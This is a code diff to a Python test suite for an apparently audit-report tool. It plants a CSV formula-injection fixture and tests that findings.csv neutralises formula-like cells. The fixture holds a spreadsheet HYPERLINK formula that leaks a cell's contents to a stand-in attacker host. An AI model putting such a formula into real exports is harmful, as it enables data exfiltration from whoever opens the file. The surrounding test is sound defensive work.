@@ -33,6 +33,15 @@ def written(
             plate="HTM1",
         )
     )
+    plants["S1.protest"].append(
+        Search(
+            "P-S1.protest-f",
+            hostile.name,
+            hostile.at,
+            '=HYPERLINK("http://evil.example/?leak="&A1,"protest")',
+            plate="FRM1",
+        )
+    )
     searches = clean_traffic(users=3, days=14) + [s for g in plants.values() for s in g]
     export = write_13(folder / "audit.csv", searches)
     junk = folder / "junk.csv"
@@ -131,25 +140,12 @@ def test_report_renders_in_chromium(written: tuple[Path, dict[str, Any], Any]) -
     assert not errors
 
 
-def test_findings_csv_cells_are_spreadsheet_safe(tmp_path: Path) -> None:
-    """A reason or a name typed as a formula reaches findings.csv as text, not a formula."""
-    plant = planted()["S1.protest"][0]
-    hostile = [
-        Search(f"P-S1.protest-f{k}", '=HYPERLINK("x")', plant.at, reason, plate="FRM1")
-        for k, reason in enumerate(["=1+1 protest", "@SUM(A1) protest", "+cmd protest"])
-    ]
-    export = write_13(tmp_path / "a.csv", hostile)
-    result = import_files([export])
-    run = run_rules(result.table, result.events, load_config(), result.file_columns())
-    write_report(tmp_path / "out", result, run)
-    with open(tmp_path / "out" / "findings.csv", newline="", encoding="utf-8") as handle:
-        rows = [r for r in csv.DictReader(handle) if r["rule_id"] == "S1.protest"]
-    assert sorted(r["reason"] for r in rows) == [
-        "'+cmd protest",
-        "'=1+1 protest",
-        "'@SUM(A1) protest",
-    ]
-    assert {r["user"] for r in rows} == {'\'=HYPERLINK("x")'}
-    assert all(r["subject"].startswith("'=") for r in rows)
-    for row in rows:
-        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
+def test_findings_csv_cells_cannot_run_as_formulas(
+    written: tuple[Path, dict[str, Any], Any],
+) -> None:
+    out, _, _ = written
+    with open(out / "findings.csv", encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)  # the planted reason is there ...
+    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(re.fullmatch(r"[+-]?[\d.]+", c) for c in risky), risky  # ... but only as text
